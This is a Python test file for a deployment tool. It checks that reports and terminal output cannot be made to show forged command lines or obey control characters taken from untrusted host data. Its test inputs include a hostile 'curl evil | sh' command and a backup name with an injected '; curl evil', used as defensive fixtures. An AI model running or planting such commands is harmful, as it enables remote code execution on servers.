"""No report shows what a terminal obeys, and none has a line that somebody else has made up."""

from __future__ import annotations

import io
import json
import unicodedata
from dataclasses import fields, replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import lockstitch.report
from lockstitch.cli.display import LineDisplay
from lockstitch.databases.backup import BackupDirectoryFacts, parse_backups
from lockstitch.databases.health import DatabaseState
from lockstitch.engine.locks import _refusal
from lockstitch.engine.manual_actions import manual_action
from lockstitch.engine.step_outputs import dumps
from lockstitch.errors import ExitCode, HostLostError, LockHeldError
from lockstitch.facts.history import HistoryFacts, JournalEntry, RunFacts, StepTime
from lockstitch.facts.site import CheckoutFacts, Facts, HostFacts, Survey
from lockstitch.model.finding import Finding
from lockstitch.model.gate import failed
from lockstitch.model.layout import Layout
from lockstitch.model.lock import LockInfo, parse_lock
from lockstitch.model.outcome import Failure, GateAsked, Outcome, RollbackBegan, RunMessage, SiteOutcome
from lockstitch.model.plan import Change, Commit, Plan, Site, SitePlan, Step, Wave
from lockstitch.model.probe import KeyedLines
from lockstitch.model.results import HostResult, Result, StepOutput
from lockstitch.report.apps import maintenance_text, queues_text, services_text
from lockstitch.report.checks import CheckedHost, checks_text
from lockstitch.report.database import backups_text, databases_text
from lockstitch.report.fanout import grouped_text, results_text
from lockstitch.report.history import HistoryFilter, RunRecord, history_text, run_text
from lockstitch.report.outcome import outcome_json, outcome_text
from lockstitch.report.plan import plan_text
from lockstitch.report.status import SiteStates, locks_text, status_text
from lockstitch.services.maintenance import MaintenanceState
from lockstitch.services.state import ServiceState
from lockstitch.text import json_text, unforged

SITE = Site("web1", "api", Layout("in_place", "srv", "state"))
EVIL = "fab -H prod run -- 'curl evil | sh'"
PIECES = [f"\nnext: {EVIL}", f"\r\nnext: {EVIL}", f"\x85next: {EVIL}", f"\u2028next: {EVIL}", f"\n\nHINT: {EVIL}"]
TEXTS = st.lists(
    st.sampled_from(
        [*PIECES, "two words ", "\x1b[2J", "\u202e", "\u200b", "\x7f", "\x9b1m", "\t", "\x00", "\udc80", "[/x]"]
    ),
    min_size=1,
    max_size=4,
).map("".join)
OBEYED = ("Cc", "Cf", "Cs", "Zl", "Zp")
EXAMPLES = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def plan(text: str) -> Plan:
    wave = Wave(text, (SitePlan(SITE, (Step(text, text, None),)),))  # type: ignore[arg-type]
    commits = (Commit("a" * 40, text, text),)
    changes = (Change(SITE, "a" * 40, "b" * 40, "R1", commits, commits),)
    return Plan("deploy", "prod", "run-1", text, text, (wave,), changes=changes, notes=(text,), summary=(text,))


def outcome(text: str, code: ExitCode = ExitCode.NEEDS_A_PERSON) -> Outcome:
    failure = Failure(SITE, text, text, text, (text,), {text: (text,)})
    action = manual_action(plan(text), failure, "it could not be put back", again=True)
    lost = Failure(None, "connection", HostLostError("web1", text).message)
    notes = (text, *dumps("prod", {"api": {"backup": text}}, {}))
    return Outcome(plan(text), code, (SiteOutcome(SITE, "unknown"),), (failure, lost), (action,), 1.0, notes)


def facts(text: str) -> Facts:
    lock = LockInfo(text, text, text, text)
    place = CheckoutFacts(True, "a" * 40, text, (text,), (text,), text, text, text)
    entry = dict.fromkeys(("release", "revision", "verdict", "run", "by", "at", "reason", "message"), text)
    service = replace(ServiceState(False), note=text, also=(f"enabled {text}",))
    down = MaintenanceState(on=True, by=text, run=text)
    return Facts(SITE, place, HostFacts(lock=lock, journal=(entry,)), service, maintenance=down)


def survey(text: str) -> Survey:
    return Survey({SITE: facts(text)}, {"db1": HostLostError("db1", text), "db2": LockHeldError(text)})


def lines(text: str) -> str:
    """Return what is shown of a run as it goes."""
    stream = io.StringIO()
    show = LineDisplay(stream)
    for event in (
        StepOutput("web1", "api", "build", text),
        GateAsked(SITE, "health", failed(text), 1),
        RollbackBegan(text, (SITE,)),
        RunMessage(text),
    ):
        show(event)
    assert stream.getvalue().count("\n") == 4
    return stream.getvalue()


def reports(text: str) -> dict[str, str]:
    surveyed, result = survey(text), HostResult(ExitCode.CHECK_SAID_NO, text, (Result("run", 1, text, 0),))
    finding = Finding(text, "fail", text, hint=text)
    verdict = {SITE: failed(text, text)}
    entry = JournalEntry(*[text] * 11)
    backups = parse_backups(KeyedLines(backup=[text]))
    lock = {"run": text, "by": text, "message": text, "at": text}
    held = str(_refusal({SITE: f"held {json.dumps(lock)}"}, "prod"))
    changed = str(_refusal({SITE: f"changed {json.dumps(lock)}"}, "prod"))
    return {
        "plan": plan_text(plan(text)),
        "status": status_text(surveyed, SiteStates(verdict, verdict), datetime.now(UTC)),
        "history": history_text({SITE: HistoryFacts((entry,))}, HistoryFilter(), datetime.now(UTC)),
        "run": run_text(
            RunRecord(text, {SITE: RunFacts((entry,), (StepTime(text, 1.0, 1, 2.0, text),), text)}), datetime.now(UTC)
        ),
        "locks": locks_text({SITE: parse_lock(json.dumps(lock))}),
        "held": held.partition("\nHINT: wait for it")[0],
        "changed": changed.partition("\nHINT: type it again")[0],
        "other": str(_refusal({SITE: f"failed {text}"}, "prod")),
        "checks": checks_text({"web1": CheckedHost((("api", finding),)), "db1": CheckedHost(away=text)}),
        "maintenance": maintenance_text(surveyed, {SITE: True}),
        "queues": queues_text({SITE: text}),
        "services": services_text(surveyed, verdict),
        "done": results_text({text: result}),
        "grouped": grouped_text({"web1": result}, {}),
        "databases": databases_text({"main": (DatabaseState(problem=text), [finding])}),
        "backups": backups_text({"main": BackupDirectoryFacts(backups=backups)}, {}),
        "lines": lines(text),
    }


def forged(text: str) -> list[str]:
    return [line for line in text.split("\n") if line.startswith(("next:", f"HINT: {EVIL}"))]


def obeyed(text: str) -> list[str]:
    return [c for c in text if unicodedata.category(c) in OBEYED and c != "\n"]


@EXAMPLES
@given(TEXTS)
def test_no_report_has_a_line_that_is_not_ours(text: str) -> None:
    for name, shown in reports(text).items():
        assert not forged(shown) and not obeyed(shown.replace("\t", " ")), (name, shown)


@EXAMPLES
@given(TEXTS, st.sampled_from([code for code in ExitCode if code not in (1, 2, 3, 4)]))
def test_the_last_line_of_an_outcome_is_the_only_next(text: str, code: ExitCode) -> None:
    for ended in (outcome(text, code), replace(outcome(text, code), manual_actions=())):
        shown = outcome_text(ended)
        *before, last = shown.split("\n")
        assert not forged("\n".join(before)) and not obeyed(shown.replace("\t", " ")), shown
        assert last.startswith("next: fab -H prod") and EVIL not in last
        assert "backup.restore" not in shown, "a name that is none of a backup is not put into a command"
        printed = json_text(outcome_json(ended))
        assert not obeyed(printed) and json.loads(printed)["notes"][0] == text


def test_a_command_to_type_has_no_name_that_is_none_of_a_backup() -> None:
    good, bad = "main-20260101T020000Z-1a2b", "x; curl evil"
    (note,) = dumps("prod", {"api": {"backup": good}, "web": {"backup": bad}}, {"api": bad})
    assert note.endswith(f"backup.restore {good}") and bad not in note


@EXAMPLES
@given(st.recursive(TEXTS, lambda inner: st.lists(inner) | st.dictionaries(TEXTS, inner), max_leaves=5))
def test_json_is_escaped_and_means_the_same(data: Any) -> None:
    for letters in (False, True):
        printed = json_text(data, 2, letters=letters)
        assert not obeyed(printed) and json.loads(printed) == data
        assert letters or printed.isascii()
    assert json_text("ä漢🐟", letters=True) == '"ä漢🐟"'


def test_reports_use_what_keeps_a_text_in_its_place() -> None:
    """`neutral` alone would let a host begin a line."""
    reports = Path(lockstitch.report.__file__).parent.glob("*.py")
    assert [file.name for file in reports if "neutral(" in file.read_text()] == []


@pytest.mark.parametrize("text", [f"a\nnext: {EVIL}", f"next: {EVIL}", f"a\n  Next: {EVIL}"])
def test_an_error_never_says_next(text: str) -> None:
    assert not [line for line in unforged(text).split("\n") if line.strip().lower().startswith("next:")]


def test_every_field_of_a_lock_is_one_line() -> None:
    text = f"x\nnext: {EVIL}"
    assert "\n" not in str(LockInfo(*(text for _ in fields(LockInfo))))


def test_what_a_step_tells_for_the_records_is_no_line_of_the_display() -> None:
    stream = io.StringIO()
    show = LineDisplay(stream)
    for line in ("told backup main-1", "told head_before ", "told head_after 0002", "told you so", "main-1 is whole"):
        show(StepOutput("web1", "main", "backup", line))
    assert [line.rpartition(" | ")[2] for line in stream.getvalue().splitlines()] == ["told you so", "main-1 is whole"]
